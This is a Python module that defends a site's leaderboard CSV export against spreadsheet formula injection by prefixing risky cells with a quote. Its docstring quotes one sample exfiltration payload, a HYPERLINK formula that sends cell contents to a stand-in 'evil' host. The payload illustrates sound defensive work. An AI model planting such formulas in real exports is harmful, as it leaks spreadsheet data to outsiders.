"""CSV the site writes for people to open in a spreadsheet, with formula injection defused.

A participant chooses their username and team name, and both end up in the leaderboard export; a cell such as
``=HYPERLINK("http://evil/?"&A1,"x")`` or ``=1+1-A1`` is run as a formula by Excel, LibreOffice and Google
Sheets. OWASP's rule (CSV Injection): a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return gets a leading single quote, so the spreadsheet shows it as text; the csv module quotes the cell when
it holds a separator or a quote. Plain numbers (``-0.5``, ``1e-05``) are left alone: a spreadsheet reads them
as numbers, never as formulas, and the exported released scores must stay exact text.

>>> spreadsheet_safe("=1+1-A1"), spreadsheet_safe("@SUM(A1)"), spreadsheet_safe("alice"), spreadsheet_safe("-0.25")
("'=1+1-A1", "'@SUM(A1)", 'alice', '-0.25')
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def spreadsheet_safe(cell: object) -> object:
    """``cell`` with a leading ``'`` when a spreadsheet would read it as a formula; non-strings unchanged."""
    if not isinstance(cell, str) or not cell.startswith(_FORMULA_STARTS) or _PLAIN_NUMBER.fullmatch(cell):
        return cell
    return "'" + cell


class SafeCsvWriter:
    """``csv.writer`` whose every row goes through :func:`spreadsheet_safe` (the only writer for exports)."""

    def __init__(self, out: _Writable) -> None:
        self._writer = csv.writer(out, lineterminator="\n")
        # With "\n" line ends the csv module leaves a bare "\r" unquoted, which a reader takes for a line end.
        self._quoting_writer = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)

    def writerow(self, row: Iterable[object]) -> None:
        cells = [spreadsheet_safe(cell) for cell in row]
        carriage_return = any(isinstance(cell, str) and "\r" in cell for cell in cells)
        (self._quoting_writer if carriage_return else self._writer).writerow(cells)
